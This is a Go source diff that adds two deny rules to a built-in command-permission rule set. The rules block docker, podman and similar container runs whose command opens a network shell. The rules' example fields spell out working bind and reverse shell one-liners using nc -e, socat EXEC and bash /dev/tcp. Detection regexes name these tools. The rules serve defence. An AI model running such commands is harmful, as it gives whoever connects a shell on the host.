@@ -9023,10 +9023,39 @@ var defaultRules = [...]Rule{
 		Examples:    []string{"kubectl config set-cluster staging --server=https://203.0.113.9:6443 --insecure-skip-tls-verify=true", "kubectl config set clusters.prod.server https://k8s.example.net", "oc config set-cluster c1 --server=https://api.example.org:6443"},
 		NotExamples: []string{"kubectl config set-context --current --namespace=dev", "kubectl config use-context kind-dev", "kubectl config get-clusters", "kubectl config view --minify", "kubectl --kubeconfig=./kind.kubeconfig config set-cluster kind --server=https://127.0.0.1:6443", "KUBECONFIG=./kc kubectl config set-cluster k --server=https://127.0.0.1:6443"},
 	},
+	{
+		Origin:   LayerBuiltin,
+		Name:     "container-network-shell",
+		Decision: Verdict("deny"),
+		Reason:   "starts a container whose command hands a shell to the network (nc -e sh, socat EXEC:sh): a shell for whoever connects",
+		Matcher: Matcher{
+			Command:    []string{"docker", "podman", "nerdctl", "finch"},
+			Subcommand: []string{"run", "create", "container"},
+			ArgsRegex:  []string{"(^|[;&|(]\\s*)(nc|ncat|netcat|nc\\.traditional|busybox\\s+nc)\\s[^;&|]*\\s(-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)\\s", "(^|\\s)socat\\s[^;&|]*(?i:exec|system):", "/dev/(tcp|udp)/"},
+			c:          &defaultCells[649],
+		},
+		Examples:    []string{"docker run -d -p 0.0.0.0:4444:4444 alpine sh -c 'nc -lk -p 4444 -e /bin/sh'", "podman run --rm --network host busybox sh -c \"busybox nc 198.51.100.2 9 -e sh\"", "docker run -d -p 2222:2222 alpine/socat sh -c 'socat TCP-LISTEN:2222,fork EXEC:/bin/bash'", "docker run --rm bash -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'"},
+		NotExamples: []string{"docker run --rm -p 8080:80 nginx", "docker run --rm alpine sh -c 'nc -z db 5432 && echo up'", "docker run --rm busybox nc -zv redis 6379"},
+	},
+	{
+		Origin:   LayerBuiltin,
+		Name:     "container-network-shell-words",
+		Decision: Verdict("deny"),
+		Reason:   "starts a container whose command hands a shell to the network (nc -e sh, socat EXEC:sh): a shell for whoever connects",
+		Matcher: Matcher{
+			Command:    []string{"docker", "podman", "nerdctl", "finch"},
+			Subcommand: []string{"run", "create", "container"},
+			Args:       []string{"nc", "ncat", "netcat", "nc.traditional", "socat"},
+			ArgsRegex:  []string{"^(/usr)?(/bin/)?(ba|z|da|k|a)?sh$", "^--(sh-|lua-)?exec$", "^(?i:exec|system):"},
+			c:          &defaultCells[650],
+		},
+		Examples:    []string{"docker run -d -p 9000:9000 alpine nc -lk -p 9000 -e sh", "docker run --rm -p 9:9 alpine socat TCP-LISTEN:9,fork EXEC:bash", "podman run --rm -p 31337:31337 ncat-img ncat -l 31337 --sh-exec 'cat /data/x'"},
+		NotExamples: []string{"docker run --rm busybox nc -zv redis 6379", "docker run --rm -p 8080:8080 -e PORT=8080 app", "docker run --rm -e A=1 alpine nc -z db 5432", "docker run --rm alpine/socat TCP-LISTEN:5432,fork TCP:db:5432"},
+	},
 }
 
 // defaultCells are the compiled forms of defaultRules' matchers, one each.
-var defaultCells [649]compiledCell
+var defaultCells [651]compiledCell
 
 // The values of the true-or-false keys (a function call would make
 // defaultRules code that runs at start-up).
